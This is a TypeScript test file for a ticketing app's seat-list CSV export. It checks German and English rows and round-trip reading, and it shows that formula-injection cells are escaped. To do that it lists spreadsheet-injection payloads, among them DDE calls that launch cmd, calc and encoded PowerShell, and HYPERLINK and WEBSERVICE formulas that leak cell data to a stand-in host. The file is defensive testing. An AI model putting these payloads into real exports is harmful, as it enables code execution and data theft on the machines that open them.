import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { SeatId } from '@podium/shared/primitives.ts'
import type { SeatEntry } from '@podium/shared/seats.ts'
import { readTicketFile } from '../../src/adapters/tickets/csv.ts'
import { seatListCsv } from '../../src/domains/tickets/export.ts'

const AT = Date.UTC(2026, 10, 11, 9)

function seat(change: Partial<SeatEntry> = {}): SeatEntry {
  return {
    seatId: SeatId.parse('1'.padStart(26, '0')),
    holderName: 'Jörg Süß',
    holderEmail: 'joerg@amt.example',
    number: '12E4567890',
    origin: 'eventbrite',
    ticketName: 'Online-Seminar; früh',
    orderRef: '1000000001',
    buyerName: 'Karla Käufer',
    buyerEmail: 'karla@amt.example',
    revokedBy: null,
    flags: [],
    shopStatus: 'Attending',
    coViewers: [],
    letters: [],
    ...change,
  }
}

const rowsOf = (csv: string) => parse(csv, { delimiter: ';', bom: true, record_delimiter: '\r\n' })

/** 204 cells that a spreadsheet program would run, from what is handed around among testers. */
const STARTS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\0=', '＝', '＋', '－', '＠']
const BODIES = [
  '1+1',
  "SUM(A1:A9)*cmd|' /C calc'!A0",
  "cmd|' /C powershell -e AAAA'!A0",
  'HYPERLINK("http://x.example/?"&A1;"Rechnung")',
  'HYPERLINK("http://x.example/?"&A1,"Rechnung")',
  'IMPORTXML("http://x.example/";"//a")',
  'IMPORTDATA("http://x.example/")',
  'WEBSERVICE("http://x.example/?"&B2)',
  'DDE("cmd";"/C calc";"x")',
  "MSEXCEL|'\\..\\..\\Windows\\System32\\calc.exe'!''",
  'INDIRECT("A1")',
  "'file:///etc/passwd'#$passwd.A1",
  'A1;"=1+1"',
  '1"\r\n"=2+2',
  '"=3"',
  "rundll32|'URL.dll,OpenURL x.example'!A",
  "2+5+cmd|' /C calc'!A0 und noch ein Name",
]
const PAYLOADS = STARTS.flatMap((start) => BODIES.map((body) => start + body))
const RUNS = /^[=+\-@\t\r\n\0＝＋－＠]/u

describe('the seat list as a table', () => {
  it('R53 German: every seat in one row, with state, co-viewers and the latest access e-mail in the seminar’s time', () => {
    const rows = rowsOf(
      seatListCsv(
        [
          seat({
            coViewers: ['Anna Amt', 'Bert Amt'],
            letters: [
              { kind: 'access', state: 'failed', at: AT - 1 },
              { kind: 'access', state: 'sent', at: AT },
              { kind: 'reminder', state: 'waiting', at: AT + 1 },
            ],
          }),
          seat({ holderEmail: null, origin: 'csv', revokedBy: 'shop', flags: ['no_email', 'missing'] }),
          seat({ origin: 'hand', ticketName: null, orderRef: null, buyerName: null, shopStatus: null, revokedBy: 'organiser' }),
          seat({ origin: 'pretix', flags: ['status_unknown'], shopStatus: 'Seltsam' }),
        ],
        'de',
        'Europe/Berlin',
      ),
    )
    expect(rows[0]).toEqual([
      'Platz',
      'Name',
      'E-Mail',
      'Ticket',
      'Bestellung',
      'Bestellende Person',
      'Herkunft',
      'Zustand',
      'Mitschauende',
      'Letzte Zugangsmail',
    ])
    expect(rows[1]).toEqual([
      '12E45-67890',
      'Jörg Süß',
      'joerg@amt.example',
      'Online-Seminar; früh',
      '1000000001',
      'Karla Käufer',
      'Eventbrite',
      'gültig',
      'Anna Amt, Bert Amt',
      'gesendet 11.11.2026, 10:00',
    ])
    expect(rows.slice(2).map((row) => row.slice(2, 10))).toEqual([
      ['', 'Online-Seminar; früh', '1000000001', 'Karla Käufer', 'Datei', 'storniert, keine E-Mail, fehlt in der Quelle', '', ''],
      ['joerg@amt.example', '', '', '', 'von Hand', 'gesperrt', '', ''],
      [
        'joerg@amt.example',
        'Online-Seminar; früh',
        '1000000001',
        'Karla Käufer',
        'pretix',
        'gültig, unbekannter Zustand im Shop: Seltsam',
        '',
        '',
      ],
    ])
  })

  it('R53 English, and an empty list has its headings', () => {
    const [head, row] = rowsOf(seatListCsv([seat({ letters: [{ kind: 'access', state: 'waiting', at: AT }] })], 'en', 'Europe/Berlin'))
    expect(head?.[5]).toBe('Ordered by')
    expect(row?.slice(6)).toEqual(['Eventbrite', 'valid', '', 'waits until 11 Nov 2026, 10:00'])
    expect(rowsOf(seatListCsv([], 'en', 'Europe/Berlin'))).toHaveLength(1)
  })

  it('R54 Two hundred cells that would run as formulas are text in every column, and come back whole', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(200)
    const seats = PAYLOADS.map((payload) =>
      seat({
        holderName: payload,
        holderEmail: payload,
        ticketName: payload,
        orderRef: payload,
        buyerName: payload,
        coViewers: [payload],
        shopStatus: payload,
        flags: ['status_unknown'],
      }),
    )
    const rows = rowsOf(seatListCsv(seats, 'de', 'Europe/Berlin')).slice(1)
    expect(rows).toHaveLength(PAYLOADS.length)
    rows.forEach((row, index) => {
      expect(row).toHaveLength(10)
      expect(row.filter((cell) => RUNS.test(cell))).toEqual([])
      for (const column of [1, 2, 3, 4, 5, 8]) expect(row[column]).toBe(`'${PAYLOADS[index]}`)
    })
  })

  it('R54 Whatever anybody is called, no cell runs and none breaks out of its place', () => {
    const text = fc.oneof(fc.string({ unit: 'grapheme' }), fc.constantFrom(...PAYLOADS), fc.stringMatching(/^[=+@;"'\r\n\t-]{0,9}$/))
    fc.assert(
      fc.property(fc.array(fc.tuple(text, text), { minLength: 1, maxLength: 5 }), (names) => {
        const rows = rowsOf(
          seatListCsv(
            names.map(([holderName, buyerName]) => seat({ holderName, buyerName })),
            'en',
            'UTC',
          ),
        ).slice(1)
        expect(rows.map((row) => [row[1]?.replace(/^'/, ''), row[5]?.replace(/^'/, '')])).toEqual(
          names.map((pair) => pair.map((name) => name.replace(/^'/, ''))),
        )
        expect(rows.flat().filter((cell) => RUNS.test(cell))).toEqual([])
      }),
      { numRuns: 500 },
    )
  })

  it('R55 A seat list that was kept can be read again as a ticket file, in both languages', async () => {
    for (const locale of ['de', 'en'] as const) {
      const csv = seatListCsv(
        [seat(), seat({ orderRef: '1000000002', holderName: 'Änne Grün', holderEmail: null })],
        locale,
        'Europe/Berlin',
      )
      const { tickets, problems } = await readTicketFile(Buffer.from(csv), null, AT)
      expect(problems).toEqual([])
      expect(
        tickets.map(({ orderRef, holderName, buyerName, ticketName, entitlement }) => [
          orderRef,
          holderName,
          buyerName,
          ticketName,
          entitlement,
        ]),
      ).toEqual([
        ['1000000001', 'Jörg Süß', 'Karla Käufer', 'Online-Seminar; früh', 'yes'],
        ['1000000002', 'Änne Grün', 'Karla Käufer', 'Online-Seminar; früh', 'yes'],
      ])
    }
  })
})
